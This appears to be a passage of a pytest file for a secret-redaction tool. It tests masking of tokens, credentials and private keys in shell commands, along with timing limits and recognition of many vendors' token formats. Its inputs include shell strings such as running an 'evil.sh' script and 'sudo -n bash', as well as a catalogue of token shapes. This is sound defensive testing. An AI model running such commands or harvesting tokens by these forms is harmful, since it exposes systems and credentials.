        f"true;ghp_{BODY}",
        f"(sk-{BODY})",
        "sh ./xoxb-1-evil.sh",
        f"sh ghp_{BODY}",
        f"cd x && sudo -n bash -e ghp_{BODY} -v",
        f". ghp_{BODY}",
        f"python3.11 -I sk-{BODY}",
        f"/tmp/ghp_{BODY}/run",
        f"~/bin/ghp_{BODY}.sh",
    ],
)
def test_nothing_that_could_run_is_taken_out_of_a_request(command: str) -> None:
    """Whoever allows a command sees all of it that a shell may act on; elsewhere a secret counts for more."""
    redacted = Redactor().counted(command, asked=True)

    assert (redacted.text, redacted.count) == (command, 0)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (f"curl -H 'Authorization: Bearer {BODY}' h", f"curl -H 'Authorization: Bearer {HIDDEN}' h"),
        (f"git clone https://u:{BODY}@h/r", f"git clone https://u:{HIDDEN}@h/r"),
        (f"echo wss://h?ticket={BODY};touch x", f"echo wss://h?ticket={HIDDEN};touch x"),
        (f"login --token {DRAWN}", f"login --token {HIDDEN}"),
        (f"curl https://h/bot/ghp_{BODY}/me", f"curl https://h/bot/{HIDDEN}/me"),
        (f"export T=ghp_{BODY}; run $T", f"export T={HIDDEN}; run $T"),
        (
            f"cat > k <<E\n-----BEGIN PRIVATE KEY-----\n{BODY}\n{BODY}\n-----END PRIVATE KEY-----\nE",
            f"cat > k <<E\n-----BEGIN PRIVATE KEY-----\n{HIDDEN}\n{HIDDEN}\n-----END PRIVATE KEY-----\nE",
        ),
        (
            f": -----BEGIN PRIVATE KEY----- {BODY}|/tmp/{DRAWN}",
            f": -----BEGIN PRIVATE KEY----- {HIDDEN}|/tmp/{DRAWN}",
        ),
        (
            f"# -----BEGIN PRIVATE KEY-----\n{BODY}\n/tmp/{DRAWN}",
            f"# -----BEGIN PRIVATE KEY-----\n{HIDDEN}\n/tmp/{DRAWN}",
        ),
    ],
)
def test_a_value_is_taken_out_of_a_request_as_far_as_nothing_can_run(command: str, shown: str) -> None:
    """What can be nothing but a value, up to the first sign of a shell."""
    redacted = Redactor().counted(command, asked=True)

    assert redacted.text == shown
    assert Redactor().counted(shown, asked=True).text == shown


@given(st.text(alphabet=f"{string.ascii_letters}{string.digits};|&`$(){{}}<>\n '\"/@:=?-._", max_size=60))
def test_no_sign_of_a_shell_goes_out_of_a_request(between: str) -> None:
    """Whatever stands where secrets do."""
    command = f"run https://u:{between}@h?ticket={between} token={between} --password {between}"

    shown = Redactor().counted(command, asked=True).text

    assert [sign for sign in shown if sign in _SIGNS] == [sign for sign in command if sign in _SIGNS]


_SIGNS = frozenset(";|&`$(){}<>\n '\"")


@pytest.mark.parametrize(
    "text",
    [
        f"{'x/' * 2000}{f'ghp_{BODY} ' * 300}",
        f"{'-a ' * 1500}{f'ghp_{BODY} ' * 300}",
        f"sh {' ' * 190} ghp_{BODY}" * 80,
        f"sh{' -' * 98} ghp_{BODY}" * 80,
    ],
    ids=["a path", "options", "blanks", "a runner"],
)
def test_a_request_of_many_values_is_looked_through_at_once(text: str) -> None:
    """Its time grows with its length alone: whoever asks would hold up everybody else's requests."""
    begun = time.process_time()

    Redactor().counted(text, asked=True)

    assert time.process_time() - begun < 10 * max(0.1, _bare(text))


def _bare(text: str) -> float:
    begun = time.process_time()
    Redactor().counted(text)
    return time.process_time() - begun


_HEX, _MIXED = "0a1b2c3d4e5f60718293" * 4, "aB3dE5gH7jK9mN1pQ2rS" * 10


@pytest.mark.parametrize(
    "secret",
    [
        f"shpat_{_HEX[:32]}", f"dckr_pat_{_MIXED[:27]}", f"hvs.{_MIXED[:24]}", f"{_MIXED[:14]}.atlasv1.{_MIXED[:60]}",
        f"ya29.{_MIXED[:60]}", f"glsa_{_MIXED[:32]}_{_HEX[:8]}", f"lin_api_{_MIXED[:40]}", f"gsk_{_MIXED[:52]}",
        f"xai-{_MIXED[:80]}", f"r8_{_MIXED[:37]}", f"tskey-auth-{_MIXED[:16]}-{_MIXED[:32]}", f"figd_{_MIXED[:40]}",
        f"sntrys_{_MIXED[:60]}", f"lsv2_pt_{_HEX[:32]}_{_HEX[:10]}", f"pplx-{_MIXED[:48]}", f"sbp_{_HEX[:40]}",
        f"PMAK-{_HEX[:24]}-{_HEX[:34]}", f"ATATT3{_MIXED[:170]}", f"ops_eyJ{_MIXED}{_MIXED[:50]}",
        f"AGE-SECRET-KEY-1{_MIXED[:58].upper()}", f"AccountKey={_MIXED[:86]}==",
    ],
)  # fmt: skip
def test_more_makers_tokens_are_known_by_their_form(secret: str) -> None:
    """In prose, in code and in a quote; a text that only begins so is kept."""
    value = secret.partition("AccountKey=")[2] or secret
    for around in ("{}", "use {} there", "`{}`", "> {};"):
        assert Redactor().redact(around.format(secret)) == around.format(secret.replace(value, HIDDEN))
    assert Redactor().redact(secret[:10]) == secret[:10]
